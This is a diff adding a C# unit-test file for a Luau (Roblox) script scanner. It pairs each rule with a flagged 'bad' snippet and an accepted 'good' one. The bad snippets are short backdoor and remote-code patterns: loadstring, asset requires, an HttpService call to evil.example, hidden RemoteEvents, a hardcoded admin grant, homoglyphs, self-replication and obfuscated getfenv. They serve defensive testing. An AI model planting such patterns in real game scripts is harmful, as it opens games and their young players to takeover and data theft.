@@ -1,0 +1,61 @@
+using ToolboxAI.Shared.Luau;
+using ToolboxAI.Shared.Luau.Scan;
+
+namespace ToolboxAI.Tests.Luau;
+
+/// <summary>Each rule finds its weakness and leaves the mended form alone.</summary>
+public sealed class ScannerTests
+{
+    public static TheoryData<string, string, string> Pairs => new()
+    {
+        { "remote-code-loadstring", "loadstring(x)()", "local actions = {go = function() end} actions.go()" },
+        { "remote-code-require-asset", "require(123456789)", "require(script.Parent.Util)" },
+        { "remote-code-require-asset", "local id = tonumber('12' .. '34567') require(id)", "require(game.ReplicatedStorage.Util)" },
+        { "remote-code-insert-asset", "game:GetService('InsertService'):LoadAsset(1)", "script.Door:Clone().Parent = workspace" },
+        { "remote-code-foreign-host", "game:GetService('HttpService'):GetAsync('https://evil.example/x')", "game:GetService('HttpService'):GetAsync('https://api.school.example/x')" },
+        { "remote-code-unknown-host", "game:GetService('HttpService'):GetAsync(url)", "game:GetService('HttpService'):GetAsync('https://api.school.example/' .. page)" },
+        { "backdoor-hidden-remote", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('JointsService')", "local r = Instance.new('RemoteEvent') r.Parent = game:GetService('ReplicatedStorage')" },
+        { "backdoor-admin-grant", "if player.UserId == 123456 then giveAdmin(player) end", "if player:GetRankInGroup(1) > 200 then giveAdmin(player) end" },
+        { "backdoor-hidden-by-blanks", "local a = 1" + new string(' ', 200) + "print(a)", "local a = 1\nprint(a)" },
+        { "backdoor-homoglyph", "local s = 'аdmin'", "local s = 'admin'" },
+        { "backdoor-self-replication", "for _, p in workspace:GetDescendants() do script:Clone().Parent = p end", "local d = script.Door:Clone()" },
+        { "backdoor-hidden-name", "getfenv()['load' .. 'string']('x')", "print('x')" },
+        { "backdoor-environment", "setfenv(1, {})", "local t = {}" },
+        { "remote-unvalidated-argument", "remote.OnServerEvent:Connect(function(p, n) p.leaderstats.Coins.Value = n end)", "remote.OnServerEvent:Connect(function(p, n) if typeof(n) ~= 'number' or n > 10 then return end p.leaderstats.Coins.Value = n end)" },
+        { "data-store-unprotected", "local s = game:GetService('DataStoreService'):GetDataStore('x') s:GetAsync('k')", "local s = game:GetService('DataStoreService'):GetDataStore('x') local ok = pcall(function() return s:GetAsync('k') end)" },
+        { "data-store-lost-update", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() local v = s:GetAsync('k') s:SetAsync('k', v + 1) end)", "local s = game:GetService('DataStoreService'):GetDataStore('x') pcall(function() s:UpdateAsync('k', function(v) return v + 1 end) end)" },
+        { "privacy-player-data-leaves", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', p.UserId) end)", "game.Players.PlayerAdded:Connect(function(p) game:GetService('HttpService'):PostAsync('https://api.school.example', 'joined') end)" },
+        { "receipt-unsafe", "game:GetService('MarketplaceService').ProcessReceipt = function(r) give(r) return Enum.ProductPurchaseDecision.PurchaseGranted end", "game:GetService('MarketplaceService').ProcessReceipt = function(r) if not record(r.PurchaseId) then return Enum.ProductPurchaseDecision.NotProcessedYet end return Enum.ProductPurchaseDecision.PurchaseGranted end" },
+        { "infinite-yield", "while true do local x = 1 end", "while true do task.wait(1) end" },
+        { "child-safety-outside-link", "label.Text = 'Join discord.gg/abc'", "label.Text = 'Join the game'" },
+        { "child-safety-unfiltered-text", "p.Chatted:Connect(function(m) board.Text = m end)", "p.Chatted:Connect(function(m) board.Text = game:GetService('TextService'):FilterStringAsync(m, p.UserId):GetNonChatStringForBroadcastAsync() end)" },
+        { "child-safety-contact", "label.Text = 'Send me your phone number'", "label.Text = 'Send the ship to port'" },
+    };
+
+    [Theory, MemberData(nameof(Pairs))]
+    public void A_rule_finds_the_bad_and_leaves_the_good(string rule, string bad, string good)
+    {
+        var options = new ScanOptions(["api.school.example"]);
+
+        Assert.Contains(rule, ScriptScanner.Scan(LuauSource.FromText(bad), options).Findings.Select(finding => finding.Rule.Id));
+        Assert.DoesNotContain(rule, ScriptScanner.Scan(LuauSource.FromText(good), options).Findings.Select(finding => finding.Rule.Id));
+    }
+
+    [Fact]
+    public void A_finding_tells_the_way_from_source_to_sink()
+    {
+        var report = ScriptScanner.Scan(LuauSource.FromText("remote.OnServerEvent:Connect(function(p, code)\n  local c = code\n  loadstring(c)()\nend)"));
+
+        var finding = Assert.Single(report.Findings, finding => finding.Rule == Rules.UnvalidatedArgument);
+        Assert.True(finding.Trace.Count >= 2);
+        Assert.Equal(3, report.Source.LineOf(finding.Span.Start));
+    }
+
+    [Fact]
+    public void A_wider_script_is_told_and_where()
+    {
+        var widened = CapabilityDetector.Widened(LuauSource.FromText("print(1)"), LuauSource.FromText("print(1)\ngame:GetService('HttpService'):GetAsync('https://x')"));
+
+        Assert.Contains(widened, change => change.Capability == ScriptCapability.Network && change.Span.Start > 0);
+    }
+}
